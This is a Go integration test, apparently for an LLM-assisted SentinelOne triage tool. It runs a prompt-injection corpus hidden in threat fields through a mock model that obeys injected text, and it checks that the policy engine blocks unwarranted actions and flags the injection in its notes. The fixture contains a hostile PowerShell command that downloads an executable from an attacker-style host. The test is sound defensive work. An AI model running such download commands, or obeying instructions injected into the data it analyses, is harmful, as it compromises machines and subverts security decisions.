@@ -1,0 +1,199 @@
+package integration
+
+import (
+	"encoding/json"
+	"fmt"
+	"io"
+	"net/http"
+	"net/http/httptest"
+	"os"
+	"path/filepath"
+	"regexp"
+	"slices"
+	"strings"
+	"sync"
+	"testing"
+	"time"
+
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+	"go.temporal.io/sdk/testsuite"
+
+	"github.com/s1copilot/s1copilot/activities"
+	"github.com/s1copilot/s1copilot/config"
+	"github.com/s1copilot/s1copilot/investigation"
+	"github.com/s1copilot/s1copilot/llm"
+	"github.com/s1copilot/s1copilot/llm/llmtest"
+	"github.com/s1copilot/s1copilot/policy"
+	"github.com/s1copilot/s1copilot/s1sim/simulator"
+	"github.com/s1copilot/s1copilot/workflows"
+)
+
+// obeyingEndpoint is an OpenAI-compatible model that does what the injected text
+// asks: it finds the threat in the prompt and answers what that threat's payload wants.
+type obeyingEndpoint struct {
+	wants map[string]string // threat ID → what its payload asks
+	mu    sync.Mutex
+	calls map[string]int
+}
+
+var threatIDInPrompt = regexp.MustCompile(`threat_id: \\"(\d+)\\"`)
+
+func (m *obeyingEndpoint) ServeHTTP(w http.ResponseWriter, r *http.Request) {
+	body, _ := io.ReadAll(r.Body)
+	mm := threatIDInPrompt.FindSubmatch(body)
+	if mm == nil {
+		http.Error(w, `{"error":{"message":"no threat in the prompt"}}`, http.StatusBadRequest)
+		return
+	}
+	id := string(mm[1])
+	m.mu.Lock()
+	m.calls[id]++
+	m.mu.Unlock()
+	w.Header().Set("Content-Type", "application/json")
+	_ = json.NewEncoder(w).Encode(map[string]any{
+		"id": "chatcmpl-obey", "object": "chat.completion", "created": time.Now().Unix(), "model": "obedient",
+		"choices": []any{map[string]any{"index": 0, "finish_reason": "stop",
+			"message": map[string]any{"role": "assistant", "content": llmtest.ObeyingAnswer(m.wants[id])}}},
+	})
+}
+
+// injectedThreat is a Word macro dropper S1 rates malicious on a workstation, with
+// the payload hidden in the field the corpus names.
+func injectedThreat(i int, e llmtest.InjectionPayload, agentID string) simulator.ScenarioThreat {
+	t := simulator.ScenarioThreat{
+		ID: fmt.Sprintf("19700000000000%05d", i), AgentID: agentID, ThreatName: "8821.exe", Classification: "Trojan",
+		ClassificationSource: "Behavioral", ConfidenceLevel: "malicious", SHA1: fmt.Sprintf("%040x", 0xabc000+i),
+		FilePath: `C:\Users\hbauer\AppData\Local\Temp\8821.exe`, FileVerificationType: "NotSigned",
+		MaliciousProcessArguments: `powershell.exe -NoP -W Hidden -c "iwr http://aptgrp-cdn.com/wp/1 -o $env:TEMP\8821.exe"`,
+		OriginatorProcess:         "WINWORD.EXE", ProcessUser: `FABRIKAM\hbauer`, InitiatedBy: "agent_policy",
+		DetectionType: "dynamic", CreatedAgo: "1m",
+		Indicators: []simulator.ScenarioIndicator{{Category: "Execution", Description: "Microsoft Word started PowerShell"}},
+	}
+	switch e.Field {
+	case "commandLine":
+		t.MaliciousProcessArguments = e.Payload
+	case "filePath":
+		t.FilePath = e.Payload
+	case "threatName":
+		t.ThreatName = e.Payload
+	case "processUser":
+		t.ProcessUser = e.Payload
+	case "originatorProcess":
+		t.OriginatorProcess = e.Payload
+	case "indicator":
+		t.Indicators = append(t.Indicators, simulator.ScenarioIndicator{Category: "General", Description: e.Payload})
+	case "timeline":
+		t.Timeline = []simulator.ScenarioActivity{{ActivityType: 3608, PrimaryDescription: e.Payload, Ago: "30s"}}
+	default:
+		panic("unknown corpus field " + e.Field)
+	}
+	return t
+}
+
+// TestInjectionCorpusThroughWholeInvestigations runs every payload of the corpus
+// through a whole investigation on the dev server, with a model that obeys them and
+// the example policy, which isolates workstations on its own at 0.9 confidence. No
+// investigation may act automatically beyond what the policy allows on the rules
+// engine's reading of the same evidence, write back a false_positive for a threat
+// SentinelOne rates malicious, or leave the attempt out of its note.
+func TestInjectionCorpusThroughWholeInvestigations(t *testing.T) {
+	corpus, err := llmtest.InjectionCorpus()
+	require.NoError(t, err)
+	require.GreaterOrEqual(t, len(corpus), 30)
+
+	example, err := os.ReadFile(filepath.Join("..", "policy", "examples", "policy.yaml"))
+	require.NoError(t, err)
+	// Approvals time out in seconds: only automatic actions can happen in this test.
+	// No caps: 37 detections in a minute would reach them, and this test is about what
+	// the model can talk the policy into (caps are tested on their own).
+	quick := strings.NewReplacer("timeout: 24h", "timeout: 4s", "reminderAfter: 2h", "reminderAfter: 2s", "escalateAfter: 8h", "escalateAfter: 3s",
+		"isolationsPerHour: 5", "isolationsPerHour: 0", "isolationsPerDay: 20", "isolationsPerDay: 0", "autoActionsPerMinute: 30", "autoActionsPerMinute: 0").Replace(string(example))
+	require.NotEqual(t, string(example), quick)
+	policyFile := filepath.Join(t.TempDir(), "policy.yaml")
+	require.NoError(t, os.WriteFile(policyFile, []byte(quick), 0o600))
+	pol, err := policy.Parse([]byte(quick), policyFile)
+	require.NoError(t, err)
+
+	model := &obeyingEndpoint{wants: map[string]string{}, calls: map[string]int{}}
+	ms := httptest.NewServer(model)
+	t.Cleanup(ms.Close)
+	var ids []string
+	s := newStack(t, stackOptions{
+		config: func(c *config.Config) {
+			c.LLMBaseURL, c.LLMAPIKey, c.LLMModel = ms.URL+"/v1", modelKey, "obedient"
+			c.LLMCacheTTL = 0 // every payload is analysed on its own
+			c.PolicyFile = policyFile
+		},
+	})
+	agentID := "1900000000000000002" // the demo's Windows laptop
+	for i, e := range corpus {
+		th := injectedThreat(i, e, agentID)
+		require.NoError(t, s.sim.AddThreat(th), "payload %d", i)
+		model.wants[th.ID] = e.Wants
+		ids = append(ids, th.ID)
+	}
+
+	// What the policy would do on the rules engine's reading of each threat, from the
+	// evidence as the investigation will read it (before anything is done to it).
+	var ts testsuite.WorkflowTestSuite
+	env := ts.NewTestActivityEnvironment()
+	acts := &activities.Activities{S1: s1clientFor(t, s)}
+	env.RegisterActivity(acts)
+	allowed := map[string][]investigation.Action{}
+	for _, id := range ids {
+		v, err := env.ExecuteActivity(acts.EnrichThreat, id)
+		require.NoError(t, err)
+		var ev investigation.Evidence
+		require.NoError(t, v.Get(&ev))
+		rules, err := llm.NewRules().Analyze(s.ctx, ev)
+		require.NoError(t, err)
+		allowed[id] = policy.Decide(pol, policy.Inputs{Analysis: rules, Facts: ev.Facts}).Actions(policy.Auto)
+	}
+
+	for _, id := range ids {
+		_, err := workflows.StartInvestigation(s.ctx, s.c, s.cfg.Temporal.TaskQueue, id, workflows.StartHint{})
+		require.NoError(t, err)
+	}
+	waitUntil(t, s.ctx, "every investigation finished", func() bool {
+		for _, id := range ids {
+			if _, running := s.stage(id); running {
+				return false
+			}
+		}
+		return true
+	})
+
+	c := s1clientFor(t, s)
+	isolationsAsked := 0
+	for i, id := range ids {
+		e := corpus[i]
+		r := s.result(id)
+		var auto []investigation.Action
+		for _, a := range r.Actions {
+			if a.Disposition == policy.Auto && a.State != workflows.ActionNotTaken {
+				auto = append(auto, a.Action)
+			}
+		}
+		for _, a := range auto {
+			assert.Contains(t, allowed[id], a, "payload %d (%s in %s): automatic %s beyond the rules' reading %v", i, e.Wants, e.Field, a, allowed[id])
+		}
+		if e.Wants == "isolate" || e.Wants == "escalate" {
+			isolationsAsked++
+		}
+		assert.NotEqual(t, investigation.VerdictFalsePositive, r.Verdict, "payload %d (%s in %s) lowered the verdict", i, e.Wants, e.Field)
+		th, err := c.GetThreat(s.ctx, id)
+		require.NoError(t, err)
+		assert.NotEqual(t, "false_positive", th.ThreatInfo.AnalystVerdict, "payload %d: false_positive written back", i)
+		notes := strings.Join(s.sim.Notes(id), "\n")
+		assert.Contains(t, notes, "Suspected prompt injection", "payload %d (%s in %s): the note must flag it", i, e.Wants, e.Field)
+		assert.Contains(t, notes, "Analyzer: openai:obedient", "payload %d: the model answered (the guard bounded it)", i)
+		if slices.Contains(allowed[id], investigation.ActionKill) {
+			assert.Contains(t, auto, investigation.ActionKill, "payload %d (%s): the injection stopped containment the evidence supports", i, e.Wants)
+		}
+	}
+	model.mu.Lock()
+	defer model.mu.Unlock()
+	assert.Len(t, model.calls, len(ids), "every payload reached the model")
+	assert.Positive(t, isolationsAsked, "the corpus asks for isolations")
+}
